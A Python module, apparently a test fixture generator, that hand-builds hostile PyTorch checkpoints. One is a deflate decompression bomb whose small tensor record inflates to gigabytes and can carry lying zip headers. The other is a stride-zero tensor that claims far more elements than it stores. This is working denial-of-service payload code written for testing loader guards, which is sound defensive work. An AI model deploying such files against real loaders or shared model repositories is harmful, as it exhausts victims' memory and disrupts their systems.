"""Craft hostile PyTorch checkpoints: a small zip whose tensor record inflates to gigabytes.

The deflate stream of N MiB of zeros is built from one full-flushed block repeated N times (each
block is independent after ``Z_FULL_FLUSH``), so an 8 GiB record costs ~8 MiB and no real
compression work. The zip is written by hand (zip64 extras) with a real ``data.pkl`` that asks
PyTorch for a float32 storage of that many bytes, so an unguarded ``torch.load`` allocates it all.
"""

from __future__ import annotations

import collections
import io
import pickle
import struct
import zlib
from pathlib import Path

import torch

MIB = 1 << 20


class _Storage:
    """Stands for the storage record ``data/0`` in the pickle."""


class _Tensor:
    """Pickles as ``_rebuild_tensor_v2`` over the storage, like ``torch.save`` does."""

    def __init__(self, numel: int, stride: int = 1, shape: int | None = None) -> None:
        self.numel, self.stride, self.shape = numel, stride, shape if shape is not None else numel

    def __reduce__(self) -> tuple:
        args = (_Storage(), 0, (self.shape,), (self.stride,), False, collections.OrderedDict())
        return torch._utils._rebuild_tensor_v2, args


class _Pickler(pickle.Pickler):
    def __init__(self, fh: io.BytesIO, numel: int) -> None:
        super().__init__(fh, protocol=2)
        self.numel = numel

    def persistent_id(self, obj: object) -> tuple | None:
        if isinstance(obj, _Storage):
            return ("storage", torch.FloatStorage, "0", "cpu", self.numel)
        return None


def state_pickle(numel: int, stride: int = 1, shape: int | None = None) -> bytes:
    """``data.pkl`` of ``{"w": <float32 tensor over storage '0' of numel elements>}``."""
    buf = io.BytesIO()
    _Pickler(buf, numel).dump({"w": _Tensor(numel, stride, shape)})
    return buf.getvalue()


ZEROS_CRC = {8192: 0x41D912FF}  # CRC32 of 8 GiB of zeros (8 s to compute; checked for small sizes)


def zeros_crc(mib: int) -> int:
    """CRC32 of ``mib`` MiB of zeros."""
    if mib in ZEROS_CRC:
        return ZEROS_CRC[mib]
    crc, zeros = 0, bytes(MIB)
    for _ in range(mib):
        crc = zlib.crc32(zeros, crc)
    return crc


def zeros_deflate(mib: int) -> tuple[bytes, int]:
    """(raw deflate stream of ``mib`` MiB of zeros, its CRC32)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(MIB)
    comp.compress(zeros)
    comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    return block * mib + comp.flush(), zeros_crc(mib)


def write_zip(path: Path, records: list[tuple[str, bytes, int, int, int]]) -> None:
    """Write (name, payload, uncompressed size, crc, method) records as a zip64-aware archive."""
    out = io.BytesIO()
    central = []
    for name, payload, usize, crc, method in records:
        offset = out.tell()
        fname = name.encode()
        extra = struct.pack("<HHQQ", 1, 16, usize, len(payload))
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                45,
                0,
                method,
                0,
                0x21,
                crc,
                0xFFFFFFFF,
                0xFFFFFFFF,
                len(fname),
                len(extra),
            )
        )
        out.write(fname + extra + payload)
        cextra = struct.pack("<HHQQQ", 1, 24, usize, len(payload), offset)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                45,
                45,
                0,
                method,
                0,
                0x21,
                crc,
                0xFFFFFFFF,
                0xFFFFFFFF,
                len(fname),
                len(cextra),
                0,
                0,
                0,
                0,
                0xFFFFFFFF,
            )
            + fname
            + cextra
        )
    cd_offset = out.tell()
    cd = b"".join(central)
    out.write(cd)
    n = len(records)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_offset, 0))
    path.write_bytes(out.getvalue())


def small_records() -> list[tuple[str, bytes, int, int, int]]:
    """The small records of a real ``torch.save`` (version, byteorder...), stored."""
    import zipfile

    buf = io.BytesIO()
    torch.save({"w": torch.ones(1)}, buf)
    with zipfile.ZipFile(buf) as z:
        return [
            (i.filename, z.read(i), i.file_size, i.CRC, 0)
            for i in z.infolist()
            if i.filename not in ("archive/data.pkl", "archive/data/0")
        ]


def deflate_bomb(path: Path, inflated_mib: int, declared_mib: int | None = None) -> None:
    """A checkpoint of one float32 tensor whose record inflates to ``inflated_mib`` MiB.

    ``declared_mib`` makes the zip headers lie about that size (the real stream is unchanged).
    """
    payload, crc = zeros_deflate(inflated_mib)
    declared = (inflated_mib if declared_mib is None else declared_mib) * MIB
    pkl = state_pickle(declared // 4)
    write_zip(
        path,
        [
            ("archive/data.pkl", pkl, len(pkl), zlib.crc32(pkl), 0),
            ("archive/data/0", payload, declared, crc, 8),
            *small_records(),
        ],
    )


def stride_zero_view(path: Path, numel: int) -> None:
    """A real one-element checkpoint whose tensor claims ``numel`` elements with stride 0."""
    data = struct.pack("<f", 1.0)
    pkl = state_pickle(1, stride=0, shape=numel)
    write_zip(
        path,
        [
            ("archive/data.pkl", pkl, len(pkl), zlib.crc32(pkl), 0),
            ("archive/data/0", data, len(data), zlib.crc32(data), 0),
            *small_records(),
        ],
    )
